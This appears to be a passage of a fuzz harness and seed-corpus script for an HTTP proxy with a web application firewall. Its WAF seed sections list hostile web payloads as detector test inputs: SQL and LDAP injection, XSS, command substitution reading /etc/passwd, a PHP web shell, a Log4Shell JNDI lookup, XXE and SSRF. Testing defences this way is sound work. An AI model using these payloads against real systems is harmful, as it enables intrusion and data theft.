        struct text to = TEXT(whole_to), to_2 = TEXT(part_to);
        struct slice s = { in, n };
        int all = 0, part = 0;
        for (size_t i = 0; i <= n; i++) {
            struct slice cut = { in, i };
            to_2.n = 0;
            char *copy = malloc(i + !i);
            memcpy(copy, in, i);
            cut.p = copy;
            part = kind == 0 ? socks_methods(cut, &offered_2) : kind == 1 ? socks_login(cut, &name_2, &password_2)
                : kind == 2 ? socks_request(cut, &to_2) : socks_request_4(cut, &to_2);
            HOLDS(part >= -3 && part <= (int)i);
            if (part > 0 && kind == 1)
                HOLDS(name_2.p >= copy && password_2.p + password_2.n <= copy + i);
            free(copy);
            if (part != 0)
                break;
        }
        all = kind == 0 ? socks_methods(s, &offered) : kind == 1 ? socks_login(s, &name, &password)
            : kind == 2 ? socks_request(s, &to) : socks_request_4(s, &to);
        HOLDS((all > 0) == (part > 0) && (all == 0) == (part == 0));
        if (all <= 0)
            continue;
        HOLDS(all == part);
        if (kind >= 2) {                                 /* a request line is made of it */
            HOLDS(to.n == to_2.n && memcmp(whole_to, part_to, to.n) == 0);
            for (size_t i = 0; i < to.n; i++)
                HOLDS(whole_to[i] > ' ' && whole_to[i] < 0x7f && !strchr("/?#@\\\"", whole_to[i]));
            authority_parse((struct slice){ whole_to, to.n }, &a);
        } else
            HOLDS(kind == 0 ? offered == offered_2 : name.n == name_2.n && password.n == password_2.n);
    }
}
static void fuzz_formats(const char *in, size_t n)
{
    static const char hostile[] = "GET /\x1b[2J\"\\\xff\n HTTP/1.1\r\nHost: h\r\nX: \x9b\r\n\r\n";
    static struct conn conn = { .fd = -1 };
    struct slice odd = { hostile, sizeof hostile - 1 };
    struct record record = { .client.kind = ADDR_IP, .peer.kind = ADDR_IP, .method = odd, .target = odd, .path = odd, .query = odd,
                             .host = odd, .user = odd, .rule = odd, .id = odd, .conn = &conn, .head = &whole, .status = 200, .done_us = 5 };
    char *text = malloc(n + 1), line[8192];
    memcpy(text, in, n), text[n] = 0;
    head_begin(&whole);
    conf = (struct config){ .workers = 1 };
    fuzz_starting = true;
    if (setjmp(fuzz_start) == 0) {
        opt_log_format((struct arg){ "--log-format", text });
        for (unsigned i = 0, out = 0; i < conf.log_ops_n; i++) {
            struct text t = TEXT(line);
            const struct log_op *op = &conf.log_ops[i];
            if (op->what == 'p')
                continue;
            log_directive(&t, &record, op, &out);
            HOLDS(t.n <= sizeof line);
            for (size_t k = 0; op->what && op->what != 't' && k < t.n; k++)
                HOLDS(line[k] >= ' ' && line[k] < 0x7f);
        }
        HOLDS(conf.log_outs <= 8);
    }
    fuzz_end();
    free(text);
}
static void fuzz_arguments(const char *in, size_t n)
{
    char *argv[] = { (char *)"proxy", (char *)"@/dev/fd/199", NULL };
    int fd = memfd_create("fuzz", 0);
    if (write(fd, in, n) != (ssize_t)n || dup2(fd, 199) == -1 || lseek(199, 0, SEEK_SET) == -1)
        abort();
    close(fd);
    fuzz_starting = true;
    int how = setjmp(fuzz_start);
    if (how == 0) {
        conf_read(2, argv);
        HOLDS(conf.listens_n > 0 && conf.workers >= 1 && conf.workers <= WORKERS_MAX && conf.retries >= 0);
        for (int i = 0; i < T_MAX; i++)
            HOLDS(conf.timeout[i] >= 0);
        HOLDS(conf.forward || conf.routes_n);
        HOLDS(!conf.command);
    } else
        HOLDS(how == 1 || how == 2 || how == 3);
    fuzz_end();
}
static void fuzz_keeping(const struct keeping *k)
{
    for (int i = 0; i < CC_TIMES; i++)
        HOLDS(k->cc.time[i] >= -1 && k->cc.time[i] <= CC_MOST);
    HOLDS(k->age >= 0 && k->age <= CC_MOST && k->lifetime >= 0 && k->lifetime <= CC_MOST);
    HOLDS(keeping_age(k) >= k->age && keeping_age(k) <= CC_MOST && !(k->fixed && k->heuristic));
    HOLDS(k->fixed || k->heuristic || k->lifetime == 0);
    HOLDS(k->answered <= now_s + CLOCK_BACK || keeping_age(k) == CC_MOST);
    keeping_may_be_stale(k);
}
/* A whole file, but for its checksums. */
static void fuzz_stored(const char *in, size_t n)
{
    static const char request[] = "GET / HTTP/1.1\r\nHost: h\r\nAccept-Encoding: gzip, br\r\nX-A: 1\r\n\r\n";
    struct slice s = { in, n };
    struct entry_line l;
    struct entry e = { .fd = -1 };
    now_s = 1800000000;
    conf = (struct config){ .workers = 1 };
    if (n < ENTRY_LINE)
        return;
    if (entry_read_line(&l, (struct slice){ in, ENTRY_LINE }))
        HOLDS(l.meta > 0 && l.meta <= ENTRY_HEAD_MOST && l.content >= 0);
    struct slice meta = slice_from(s, ENTRY_LINE);
    if (!entry_read_meta(&e, meta))
        return;
    HOLDS(e.key.p >= meta.p && e.key.p + e.key.n <= e.head.p && e.vary.p >= meta.p && e.vary.p + e.vary.n <= e.head.p);
    HOLDS(e.head.p + e.head.n == in + n && e.head.n > 0);
    fuzz_keeping(&e.keeping);
    head_begin(&whole);
    HOLDS(!head_parse(&whole, HEAD_REQUEST, request, sizeof request - 1, 8192));
    entry_fits(&e, &whole);
}
/* A request, a response, and which of some times each has. */
static void fuzz_cachecontrol(const char *in, size_t n)
{
    static const int64_t times[] = { 0, 1, 784111777, 1800000000, 1800000100, INT32_MAX, UINT32_MAX, INT64_MAX / 2 };
    struct keeping k;
    struct cc cc;
    char lines[8192];
    struct text t = TEXT(lines);
    struct entry e = { .fd = -1 };
    head_begin(&whole), head_begin(&parts);
    if (head_parse(&whole, HEAD_REQUEST, in, n, 8192) || !whole.size
        || head_parse(&parts, HEAD_RESPONSE, in + whole.size, n - whole.size, 8192) || !parts.size)
        return;
    unsigned last = (unsigned char)in[n - 1], before = (unsigned char)in[n - 2];
    now_s = times[last & 7];
    cc_read(&cc, &whole);
    for (int targeted = 0; targeted < 2; targeted++) {
        keeping_read(&k, &parts, times[last >> 3 & 7], times[before & 7], targeted);
        fuzz_keeping(&k);
        if (!keeping_refused(&k, &whole, &parts, whole.first[FIELD_AUTHORIZATION] != 0))
            HOLDS(!(k.cc.flags & CC_PRIVATE) && (!(k.cc.flags & CC_NO_STORE) || k.cc.flags & CC_MUST_UNDERSTAND)
                  && !(cc.flags & CC_NO_STORE));
    }
    for (unsigned i = 0; i < parts.fields_n; i++) {
        struct slice v = head_value(&parts, &parts.fields[i]);
        int64_t time = date_parse(v), old = date_rfc850(v);
        HOLDS(time >= -1 && time <= INT64_C(253402300800) && (old == -1 || old == time));
        if (old > 0)                                     /* at most fifty years ahead, and the latest that is */
            HOLDS(old <= now_s + INT64_C(86400) * 18264 && old > now_s - INT64_C(86400) * 18264);
        cc_names_field(&parts, head_name(&parts, &parts.fields[i]));
    }
    if (!text_vary(&t, &whole, &parts))
        return;
    e.vary = text_all(&t);                               /* what is written fits, and is read */
    HOLDS(entry_fits(&e, &whole));
    e.vary.n = 0;
    for (struct slice rest = text_all(&t); rest.n;)
        HOLDS(entry_read_vary(&e, slice_cut(&rest, '\n')));
    HOLDS(e.vary.n == t.n);
}
/* What --waf found, as it is told. */
static void fuzz_findings(const struct waf_verdict *v)
{
    char line[512];
    struct text t = TEXT(line);
    unsigned most = 0;
    for (unsigned i = 0; i < WAF_DETECTORS; i++)
        most = v->weights[i] > most ? v->weights[i] : most;
    HOLDS(most == v->worst.weight && waf_sum(v) >= most);
    if (!most)
        return;
    HOLDS(v->worst.name_n <= sizeof v->worst.name && v->worst.what_n <= sizeof v->worst.what);
    for (size_t i = 0; i < v->worst.what_n; i++) {       /* masked */
        const char c = v->worst.what[i];
        HOLDS(c >= ' ' && (c == 'a' || !waf_letter(c)) && (c < '1' || c > '9'));
    }
    text_waf(&t, v);
    HOLDS(t.n > 0 && t.n < sizeof line);
}
/* The same twice; and a rule that matches nothing, which has all be looked at, does not let it find less. */
static void fuzz_inspect(void (*inspect)(struct waf_verdict *, const struct waf_rules *, void *), void *what)
{
    static const struct waf_rules other = { .n = 1, .list = { { .blocks = true, .name = { "?no-such-name-anywhere?", 23 } } } };
    struct waf_verdict once, twice, slowly;
    static bool learnt;
    if (!learnt)
        waf_learn(), learnt = true;
    memset(&once, 0, sizeof once), memset(&twice, 0, sizeof twice), memset(&slowly, 0, sizeof slowly);
    inspect(&once, NULL, what), inspect(&slowly, &other, what), inspect(&twice, NULL, what);
    HOLDS(memcmp(&once, &twice, sizeof once) == 0);
    for (unsigned i = 0; i < WAF_DETECTORS; i++)
        HOLDS(slowly.weights[i] >= once.weights[i]);
    fuzz_findings(&once), fuzz_findings(&slowly);
}
struct fuzz_waf { struct slice in; unsigned how; struct target target; };
static void fuzz_a_value(struct waf_verdict *v, const struct waf_rules *rules, void *what)
{
    const struct fuzz_waf *f = what;
    waf_begin(v, rules);
    waf_value(f->how % WAF_PLACES, SLICE("a"), f->in, f->how & 0x10, f->how & 0x20);
}
static void fuzz_wafvalues(const char *in, size_t n)
{
    struct fuzz_waf f = { { in + 1, n - 1 }, (unsigned char)*in };
    if (n)
        fuzz_inspect(fuzz_a_value, &f);
}
static void fuzz_a_content(struct waf_verdict *v, const struct waf_rules *rules, void *what)
{
    const struct fuzz_waf *f = what;
    waf_read_content(v, rules, &whole, f->in, f->how & 0x10);
}
static void fuzz_wafcontent(const char *in, size_t n)
{
    static const char *const types[] = { "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json",
                                         "application/xml", "text/plain", "multipart/mixed", "" };
    static char request[256];
    struct fuzz_waf f = { { in + 1, n - 1 }, n ? (unsigned char)*in : 0 };
    const char *type = types[(f.how & 15) % (sizeof types / sizeof *types)];
    int m = snprintf(request, sizeof request, "POST / HTTP/1.1\r\nHost: h\r\n%s%s\r\n\r\n", *type ? "Content-Type: " : "A: ", type);
    if (n == 0)
        return;
    head_begin(&whole);
    HOLDS(!head_parse(&whole, HEAD_REQUEST, request, (size_t)m, 8192) && whole.size);
    fuzz_inspect(fuzz_a_content, &f);
}
static void fuzz_a_head(struct waf_verdict *v, const struct waf_rules *rules, void *what)
{
    waf_read_head(v, rules, &whole, &((struct fuzz_waf *)what)->target);
}
static void fuzz_wafhead(const char *in, size_t n)
{
    struct fuzz_waf f = { 0 };
    head_begin(&whole);
    if (head_parse(&whole, HEAD_REQUEST, in, n, 8192) || !whole.size
        || target_parse(head_target(&whole), head_method(&whole), &f.target) != WHY_NONE)
        return;
    fuzz_inspect(fuzz_a_head, &f);
}
#if TLS
static void fuzz_certs(const char *in, size_t n)
{
    struct slice all = { in, n }, names = cert_alt_names(all);
    struct addr ip;
    struct cert c;
    bool expired;
    addr_parse(SLICE("192.0.2.7"), &ip);
    cert_is_for(names, SLICE("a.b.example"));
    verify_has_ip(names, &ip);
    const char *why = cert_read(all, &c, &expired);
    HOLDS(why || (c.chain_n && c.key_data));
    if (!why)
        cert_is_for(c.alt_names, SLICE("a.b.example"));
    cert_free(&c);
    anchors_read(&anchors, all);
    while (anchors.n > 0) {
        br_x509_trust_anchor *a = &anchors.list[--anchors.n];
        free(a->dn.data);
        free(a->pkey.key_type == BR_KEYTYPE_RSA ? a->pkey.key.rsa.n : a->pkey.key.ec.q);
    }
}
static void fuzz_hello(const char *in, size_t n)
{
    struct hello h;
    const struct slice all = { in, n };
    if (tls_hello(all, &h))
        HOLDS(h.name.n == 0 || (h.name.p >= in && h.name.n <= n && (size_t)(h.name.p - in) <= n - h.name.n));
    for (size_t k = 0, last = 0; k <= n && k < 700; k++) {     /* what it is does not change with what follows */
        int so = tls_offers_http((struct slice){ in, k });
        HOLDS(last == 0 || so == (int)last - 2);
        last = so ? (size_t)(so + 2) : 0;
    }
}
/* What a client sends first, to a server with a certificate of ours. */
static void fuzz_shake(const char *in, size_t n)
{
    int pair[2];
    if (!certs) {
        static char pem[8192];
        struct text t = TEXT(pem);
        struct slice name = SLICE("localhost"), all;
        uint8_t digest[32];
        unsigned which;
        const char *why;
        time_read();
        HOLDS(cert_make(&t, &(struct plan){ .names = &name, .names_n = 1, .days = 1 }, digest));
        all = text_all(&t);
        certs = certs_read(&all, 1, &which, &why, false);
        HOLDS(certs && session_share());
    }
    if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, pair) == -1 || write(pair[1], in, n) != (ssize_t)n)
        abort();
    struct block *before = NULL, *b = block_get(4096);
    struct tls *t = tls_accept(1, NULL, &before, NULL);
    now_us += 1000000;
    ssize_t r = tls_read(t, pair[0], b);
    HOLDS(r == READ_AGAIN || r == READ_FAILED || t->plain);
    HOLDS(b->w <= b->cap && !t->up);
    tls_end(t);
    block_put(&b);
    close(pair[0]);
    close(pair[1]);
}
#endif
int LLVMFuzzerTestOneInput(const uint8_t *p, size_t n);
int LLVMFuzzerTestOneInput(const uint8_t *p, size_t n)
{
    static const struct {
        const char *name;
        void (*look)(const char *, size_t);
    } targets[] = { FUZZ_TARGETS };
    static size_t t;
    char *in = malloc(n);
    while (strcmp(targets[t].name, getenv("FUZZ")) != 0)
        t++;
    memcpy(in, p, n);
    targets[t].look(in, n);
    free(in);
    return 0;
}
END
}

fuzz_seeds() {  # files to begin with, in the directory given
	case $1 in
	requests)
		printf 'GET / HTTP/1.1\r\nHost: h\r\n\r\n' >"$2/get"
		printf 'POST http://h:80/a?b HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\nConnection: x, close\r\nX: y\r\n\r\n' >"$2/post"
		printf 'CONNECT h:443 HTTP/1.0\r\nContent-Length: 0\r\nExpect: 100-continue\r\n\r\n' >"$2/connect"
		;;
	responses)
		printf 'HTTP/1.1 200 OK\r\nContent-Length: 5\r\nSet-Cookie: a=b; Path=/; Domain=h\r\nLocation: http://h/x\r\n\r\nhello' >"$2/ok"
		printf 'HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n' >"$2/upgrade"
		;;
	chunked) printf '5;a="b"\r\nhello\r\n000a\r\n0123456789\r\n0\r\nT: v\r\n\r\n' >"$2/two" ;;
	urls)
		for url in http://h:8080/a/b?c=d 'http://[::ffff:1.2.3.4]:80/' /%61/%2F/../x h:443 'a.example/p=http://h,weight=2' 0x7f.1; do
			printf '%s' "$url" >"$2/$(printf '%s' "$url" | cksum | cut -d' ' -f1)"
		done
		;;
	rules) printf 'from:10.0.0.0/8,not:method:GET,/a*b,header:X=*y*,port:1-9,a\\,b.example' >"$2/terms" ;;
	prefaces)
		printf 'PROXY TCP4 192.0.2.7 192.0.2.1 4711 80\r\nGET' >"$2/tcp4"
		printf 'PROXY TCP6 2001:db8::7 ::ffff:1.2.3.4 4711 80\r\n' >"$2/tcp6"
		printf 'PROXY UNKNOWN anything\r\n' >"$2/unknown"
		printf '\r\n\r\n\0\r\nQUIT\n\041\021\0\020\300\0\2\7\300\0\2\1\022\147\0\120\4\0\1x' >"$2/v2"
		printf '\r\n\r\n\0\r\nQUIT\n\041\041\0\044%032d\022\147\0\120' 0 >"$2/v2.6"
		printf '\r\n\r\n\0\r\nQUIT\n\040\0\0\0' >"$2/local"
		;;
	socks)
		printf '\5\3\0\1\2' >"$2/methods"
		printf '\1\3bob\6secret' >"$2/login"
		printf '\5\1\0\1\177\0\0\1\0\120' >"$2/v4"
		printf '\5\1\0\3\11h.example\1\273' >"$2/name"
		printf '\5\1\0\4%016d\1\273' 0 >"$2/v6"
		printf '\4\1\0\120\177\0\0\1me\0' >"$2/four"
		printf '\4\1\0\120\0\0\0\1me\0h.example\0' >"$2/four.a"
		;;
	formats)
		printf '%%h %%l %%u %%t "%%r" %%>s %%b "%%{Referer}i" "%%{User-Agent}i"' >"$2/combined"
		printf %s '%a %{c}a %A %{%Y-%m}t %{msec}t %D %{ms}T %m\t%U%q %H %v %V %P %k %I %O %X %{X}o %{why}x %{total}x%%' >"$2/all"
		;;
	arguments)
		printf '# c\n-l 0\n-r /a=http://h:80/b,weight=2,host=target\n-r unix:/s:/p,proxy\n--trust private\n-H A: b\n-R A;\n-t 5,connect=1s\n-v\n' >"$2/reverse"
		printf -- '-l :0,proxy\n-f\n-u a:b\n-a from:10.0.0.0/8,to:h\n-d @@x\n-x private=direct\n-x h=socks5://u:%%41@p:1\n--max body=1k,per-client=3\n-w auto\n' >"$2/forward"
		printf -- '--expect 1-2,GET\n-n 5,idle=1s\n--log-format %%h %%{X}i\n-b rr,retries=1\n-r 200:x\n-r http://n,each\n--request-id X-Id\n--cors\n' >"$2/scripts"
		;;
	stored)
		line='proxy-cache 1 00000050 0000000000000005 00000000 00000000      '
		printf '%s\nkey GET http h:80 /a?b\ntime 1700000000 1700000001\n\nHTTP/1.1 200 OK\r\nCache-Control: max-age=5\r\n\r\n' "$line" >"$2/short"
		printf '%s\nkey \ntime 1 2\nvary accept-encoding: br,gzip\nvary x-a\n\nHTTP/1.1 404 No\r\nExpires: 0\r\nVary: Accept-Encoding, X-A\r\n\r\n' "$line" >"$2/vary"
		;;
	cachecontrol)
		request='GET / HTTP/1.1\r\nHost: h\r\nAccept-Encoding: gzip;q=1, br\r\nCache-Control: max-age=5, no-cache="x"\r\nAuthorization: b\r\n\r\n'
		for fields in 'Cache-Control: public, s-maxage=5, private="a, b", must-understand, no-store\r\nAge: 7, 8' \
			'Expires: Sunday, 06-Nov-94 08:49:37 GMT\r\nDate: Sun, 06 Nov 1994 08:49:37 GMT\r\nLast-Modified: Sun Nov  6 08:49:37 1994\r\nETag: W/"a"' \
			'CDN-Cache-Control: max-age=9;a=1.5;b, *c="\\"", d=(1 ?0 tok/:en);e, f=:YQ==:\r\nVary: accept-encoding, X, Accept-Language'; do
			printf "${request}HTTP/1.1 200 OK\\r\\n$fields\\r\\n\\r\\nAB" >"$2/$(echo "$fields" | cksum | cut -d' ' -f1)"
		done
		;;
	hello | shake)
		printf '\026\3\1\0\124\1\0\0\120\3\3%032d\0\0\2\300\053\1\0\0\045\0\0\0\13\0\11\0\0\6a.test\0\12\0\4\0\2\0\035\0\15\0\4\0\2\4\3\0\13\0\2\1\0' 0 >"$2/hello"
		printf 'GET / HTTP/1.1\r\n\r\n' >"$2/plain"
		;;
	certs)
		openssl req -x509 -nodes -subj /CN=a -addext 'subjectAltName=DNS:a.b.example,DNS:*.b.example,IP:192.0.2.7' -newkey ec \
			-pkeyopt ec_paramgen_curve:P-256 -keyout "$2/key" -out "$2/pem" 2>/dev/null
		openssl x509 -in "$2/pem" -outform der -out "$2/der" 2>/dev/null
		cat "$2/pem" "$2/key" >"$2/both" 2>/dev/null
		;;
	wafvalues)
		k=0
		for text in "1' or 'a'='a" '1 union/**/select 1,2--' '<svg/onload=alert(1)>' "';alert(1)//" '..%252f..%c0%afetc/passwd' 'php://filter/x' \
			';id' '$(cat /etc/passwd)' '<?php system($_GET[a]);?>' "{{7*'7'}}" '${${lower:j}ndi:${::-l}dap://h/a}' "\${date:'}\${date:'j'}" \
			'{"$ne":null}' '*)(uid=*))(|(uid=*' '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///c">]>' 'http://169.254.169.254/' '<!--#exec cmd="id"-->' \
			'a%0d%0aSet-Cookie: b=c' '__proto__[a]' '&#x3c;script&gt;' '\u0027\x27\47' 'rO0ABXNy' '%u0027%uff07'; do
			k=$((k + 1))
			printf '%b%s' "\\0$((k % 7))" "$text" >"$2/$k"
			printf '%b%s' "\\04$((k % 7))" "$text" >"$2/$k.plus"
		done
		;;
	wafcontent)
		printf '\20a=1&b=%%27+or+1=1&c[$ne]=x' >"$2/form"
		printf '\21--x\r\nContent-Disposition: form-data; name="a"; filename="../b.php"\r\nContent-Type: text/plain\r\n\r\nv\r\n--x--\r\n' >"$2/part"
		printf '\22{"a":"\\u0027 or 1=1","b":["<script>",{"$ne":1}],"abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyz":".."}' >"$2/json"
		printf '\23<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///c">]><a b="1"><![CDATA[;id]]>&b;</a>' >"$2/xml"
		printf '\24<img src=x onerror=alert(1)>' >"$2/text"
		;;
	wafhead)
		printf 'GET /a/..%%2f/b;c?d=%%27+or+1=1&e[]=%%3cb%%3e HTTP/1.1\r\nHost: h\r\nUser-Agent: sqlmap/1\r\n\r\n' >"$2/query"
		printf "GET / HTTP/1.1\\r\\nHost: h\\r\\nCookie: a=b; c=' or 1=1\\r\\nReferer: http://h/?a=<script>\\r\\nX-A: \${jndi:ldap://h/}\\r\\n\\r\\n" >"$2/fields"
		printf 'GET http://h/ HTTP/1.1\r\nHost: h\r\nRange: bytes=0-1,2-3,4-\r\nUser-Agent: Mozilla/5.0 (X11; a) b/1\r\n\r\n' >"$2/range"
		;;
	connections | guests)
		get='~cGET /a HTTP/1.1\\r\\nHost: h\\r\\n\\r\\n' ok='~sHTTP/1.1 200 OK\\r\\nContent-Length: 2\\r\\n\\r\\nhi' n=0
		bob='Authorization: Basic Ym9iOnNlY3JldA==\\r\\n'
		while IFS= read -r talk; do
			n=$((n + 1))
			# shellcheck disable=SC2059
			printf "$(printf '%s' "$talk" | sed "s|{get}|$get|g; s|{ok}|$ok|g; s|{bob}|$bob|g")" >"$2/$n"
		done <<'END'
{get}{ok}{get}{ok}~xw
{get}{ok}~k{get}{ok}
~cGET / HTTP/1.1\r\nHost: h\r\n\r\nGET /canned HTTP/1.1\r\nHost: h\r\n\r\nHEAD / HTTP/1.1\r\nHost: h\r\n\r\n{ok}~sHTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\n
~cPOST / HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\nTrailer: X\r\n\r\n5;a="b"\r\nhello\r\n~c0\r\nX: y\r\n\r\n{ok}
~cPOST /echo HTTP/1.1\r\nHost: h\r\nContent-Length: 5\r\nExpect: 100-continue\r\n\r\n~chello
~cPUT / HTTP/1.1\r\nHost: h\r\nContent-Length: 5\r\nExpect: 100-continue\r\n\r\n~sHTTP/1.1 100 Continue\r\n\r\n~ohello{ok}
~cPUT / HTTP/1.1\r\nHost: h\r\nContent-Length: 45000\r\n\r\n~g~lhello~w5~sHTTP/1.1 413 No\r\nContent-Length: 0\r\n\r\n~lmore~w5
~cGET / HTTP/1.1\r\nHost: h\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n~sHTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\nserver~cclient~h~sbye~e
~cHEAD / HTTP/1.1\r\nHost: h\r\n\r\n~sHTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n{get}{ok}
{get}~sHTTP/1.1 103 Early Hints\r\nLink: x\r\n\r\nHTTP/1.1 102 P\r\n\r\n~pHTTP/1.1 204 No Content\r\n\r\n
{get}~sHTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n3\r\nabc\r\n~s0\r\nT: v\r\n\r\n~k
{get}~sHTTP/1.1 200 OK\r\n\r\nto the end~e
{get}~sHTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\ncut~k
{get}~sHTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n9\r\ncut~k1
{get}~sHTTP/1.1 200 OK\r\nContent-Length: 90000\r\n\r\n~b~mmuch~w3~b~mmore~w2
{get}~b~sHTTP/1.1 200 OK\r\nContent-Length: 90000\r\nCache-Control: max-age=9\r\n\r\n~Mmuch~n0~cGET /a HTTP/1.1\r\nHost: h\r\n\r\n~y~mmore~1~x~w8
{get}~sHTTP/1.1 200 OK\r\nCache-Control: max-age=60\r\nETag: "a"\r\nContent-Length: 2\r\n\r\nhi{get}~cGET /a HTTP/1.1\r\nHost: h\r\nIf-None-Match: "a"\r\n\r\n~cGET /a HTTP/1.1\r\nHost: h\r\nRange: bytes=1-\r\n\r\n
{get}~sHTTP/1.1 200 OK\r\nCache-Control: max-age=1, stale-if-error=9\r\nETag: "a"\r\nContent-Length: 2\r\n\r\nhi~w5{get}~sHTTP/1.1 304 Not Modified\r\nETag: "a"\r\nCache-Control: max-age=1\r\n\r\n~w5~d4~k{get}
{get}~n0{get}~n0{get}~sHTTP/1.1 200 OK\r\nCache-Control: max-age=60\r\nContent-Length: 9\r\n\r\nhello~p you~0~x~c
~cGET /r HTTP/1.1\r\nHost: h\r\nRange: bytes=0-1\r\n\r\n~sHTTP/1.1 206 Partial Content\r\nContent-Range: bytes 0-1/9\r\nETag: "a"\r\nCache-Control: max-age=60\r\nContent-Length: 2\r\n\r\nab~cGET /r HTTP/1.1\r\nHost: h\r\n\r\n~sHTTP/1.1 206 Partial Content\r\nContent-Range: bytes 2-8/9\r\nETag: "a"\r\nContent-Length: 7\r\n\r\ncdefghi
~cGET /v HTTP/1.1\r\nHost: h\r\nAccept-Language: de\r\n\r\n~sHTTP/1.1 200 OK\r\nVary: Accept-Language\r\nExpires: Fri, 15 Jan 2100 08:00:00 GMT\r\nContent-Length: 0\r\n\r\n~cPURGE /v HTTP/1.1\r\nHost: h\r\n\r\n
~cGET http://10.2.0.1/x HTTP/1.0\r\n\r\n{ok}
~cGET http://user@h.test:8080/x HTTP/1.1\r\nHost: other\r\nProxy-Connection: keep-alive\r\nConnection: X\r\nX: 1\r\n\r\n{ok}
~d2~cGET http://two.test/ HTTP/1.1\r\nHost: two.test\r\n\r\n~d0~cGET http://two.test/ HTTP/1.1\r\nHost: two.test\r\n\r\n{ok}
~d3~cGET http://two.test/ HTTP/1.1\r\nHost: two.test\r\n\r\n~d0~w2~w2{ok}
~cGET http://loop.test/ HTTP/1.1\r\nHost: loop.test\r\n\r\n{ok}~cGET http://private.test/ HTTP/1.1\r\nHost: private.test\r\n\r\n
~cGET http://p.test/ HTTP/1.1\r\nHost: p.test\r\n\r\n{ok}~cCONNECT p.test:443 HTTP/1.1\r\nHost: p.test:443\r\n\r\n~sHTTP/1.1 200 Connected\r\n\r\nhello~cyou
~cGET http://s.test/ HTTP/1.1\r\nHost: s.test\r\n\r\n~s\005\002~s\001\000~s\005\000\000\001\012\001\000\001\000\120{ok}
~cCONNECT 10.2.0.1:443 HTTP/1.1\r\nHost: 10.2.0.1:443\r\n\r\nhello~s you~h~sbye~k
~d4~cCONNECT 10.2.0.1:443 HTTP/1.1\r\nHost: 10.2.0.1:443\r\n\r\n~d3~w0~cGET / HTTP/1.1\r\nHost: h\r\n\r\n~w7
~cCONNECT h.test:25 HTTP/1.1\r\nHost: h.test:25\r\n\r\n~n0~cGET /denied HTTP/1.1\r\nHost: h\r\n\r\n
~c\005\001\000~c\005\001\000\001\012\002\000\001\001\273~chello~syou~e
~o\005\002\000\002~o\005\001\000\003\006h.test\001\273~d2~o\004\001\001\273\000\000\000\001me\000h.test\000
~c\004\001\001\273\012\002\000\001me\000~b~myou~cmore~b~k1
~x~n1~cPROXY TCP4 192.0.2.9 192.0.2.1 4711 80\r\nGET / HTTP/1.1\r\nHost: h\r\n\r\n{ok}
~x~n1~o\r\n\r\n\000\r\nQUIT\n\041\021\000\014\300\000\002\007\300\000\002\001\022\147\000\120GET /canned HTTP/1.1\r\nHost: h\r\n\r\n
~cGET /unix/x HTTP/1.1\r\nHost: h\r\n\r\n{ok}~cGET /unix HTTP/1.1\r\nHost: h\r\n\r\n~n0~cGET /unix HTTP/1.1\r\nHost: h\r\n\r\n{ok}{ok}
~cGET /away/x?y HTTP/1.1\r\nHost: h\r\n\r\n~cGET /b HTTP/1.1\r\nHost: r.test\r\n\r\n~sHTTP/1.1 302 Found\r\nLocation: http://10.1.0.3/base/c\r\nSet-Cookie: a=b; Path=/base; Domain=10.1.0.3\r\nContent-Length: 0\r\n\r\n
~cGET /named HTTP/1.1\r\nHost: h\r\nX-Forwarded-For: 1.2.3.4\r\n\r\n{ok}~n6~cGET / HTTP/1.1\r\nHost: h\r\nX-Forwarded-For: 1.2.3.4, 10.9.0.7\r\nX-Forwarded-Proto: https\r\n\r\n{ok}
~n2~cGET /metrics HTTP/1.1\r\nHost: 127.0.0.1:8082\r\n\r\n~cGET /status HTTP/1.1\r\nHost: localhost\r\n\r\n~cGET /proxy.pac HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n
~n3~cGET http://localhost:9/ HTTP/1.1\r\nHost: localhost:9\r\n\r\n{ok}~cOPTIONS * HTTP/1.1\r\nHost: h\r\n\r\n~cTRACE / HTTP/1.1\r\nHost: h\r\nMax-Forwards: 0\r\n\r\n
{get}~w4~w9~w9~sHTTP/1.1 504 Late\r\n\r\n~k
~CGET / HTTP/1.1\r\nHost: h\r\n\r\n~n0~z~CGET /b HTTP/1.1\r\nHost: h\r\n\r\n~z~1~z~4~SHTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nhi~5~S HTTP/1.1 500 No\r\n\r\n~K~.~X
~cGET / HTTP/1.1\r\nHost: h\r\nX: ~w8~n0~cPOST / HTTP/1.1\r\nHost: h\r\nContent-Length: 7\r\n\r\nabc~w9~n0~cBAD\r\n\r\nmore~w4
{get}~sHTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n\r\ndata: x\n\n~w9~sdata: y\n\n~h~w6
~f0{get}~sHTTP/1.1 200 OK\r\nCache-Control: max-age=60\r\nContent-Length: 90000\r\n\r\n~mabc~f1{get}~w0~n0~1{get}
~cPOST /b HTTP/1.1\r\nHost: h\r\n{bob}X-Key: k\r\nContent-Type: application/json\r\nContent-Length: 7\r\n\r\n{"a":1}~4~sHTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n[]~5{ok}
~cGET /b HTTP/1.1\r\nHost: h\r\n{bob}\r\n~k~sHTTP/1.1 500 No\r\n\r\n~k~n0~cGET /b HTTP/1.1\r\nHost: h\r\n{bob}\r\n~d4~k~k~w5~d0~w4{ok}
~cCONNECT h.test:443 HTTP/1.1\r\nHost: h.test:443\r\nProxy-{bob}\r\n~chello~syou~k
